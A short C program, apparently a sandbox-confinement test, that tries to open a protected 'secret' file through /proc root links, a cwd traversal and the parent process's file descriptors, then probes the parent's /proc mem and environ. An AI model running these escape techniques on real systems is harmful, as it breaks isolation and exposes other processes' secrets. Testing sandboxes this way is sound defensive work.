#include "attack.h"
#include <dirent.h>
int main(int argc, char **argv) {
    ARGS
    int pp = getppid();
    char p[512];
    show("open /proc/self/root/secret", lc(open(cat2("/proc/self/root", secret), O_RDONLY)));
    snprintf(p, sizeof p, "/proc/%d/root%s", pp, secret);
    show("open /proc/ppid/root/secret", lc(open(p, O_RDONLY)));
    show("raw open /proc/ppid/root/secret", raw(SYS_openat, AT_FDCWD, p, O_RDONLY, 0));
    snprintf(p, sizeof p, "/proc/%d/root%s", getpid(), secret);
    show("open /proc/pid/root/secret", lc(open(p, O_RDONLY)));
    snprintf(p, sizeof p, "/proc/1/root%s", secret);
    show("open /proc/1/root/secret", lc(open(p, O_RDONLY)));
    snprintf(p, sizeof p, "/proc/%d/cwd/../../../../../..%s", pp, secret);
    show("open /proc/ppid/cwd/..secret", lc(open(p, O_RDONLY)));
    int hits = 0;
    for (int i = 0; i < 64; i++) {
        char l[64];
        snprintf(p, sizeof p, "/proc/%d/fd/%d", pp, i);
        long fd = lc(open(p, O_RDONLY));
        if (fd >= 0) { snprintf(l, sizeof l, "open %s", p); show(l, fd); hits++; }
        fd = raw(SYS_openat, AT_FDCWD, p, O_RDONLY, 0);
        if (fd >= 0) { snprintf(l, sizeof l, "raw open %s", p); show(l, fd); hits++; }
        snprintf(p, sizeof p, "/proc/self/fd/%d", i);
        fd = lc(open(p, O_RDONLY));
        if (fd >= 0) { snprintf(l, sizeof l, "open %s", p); show(l, fd); }
    }
    printf("opened %d launcher fds\n", hits);
    snprintf(p, sizeof p, "/proc/%d/fd", pp);
    DIR *d = opendir(p);
    printf("opendir /proc/ppid/fd: %s\n", d ? "ok" : strerror(errno));
    /* the secret dir is held open by nobody; try the launcher's environment and memory */
    snprintf(p, sizeof p, "/proc/%d/mem", pp);
    show("open /proc/ppid/mem", lc(open(p, O_RDONLY)));
    snprintf(p, sizeof p, "/proc/%d/environ", pp);
    show("open /proc/ppid/environ", lc(open(p, O_RDONLY)));
    show("open /proc/self/maps", lc(open("/proc/self/maps", O_RDONLY)));
    return 0;
}
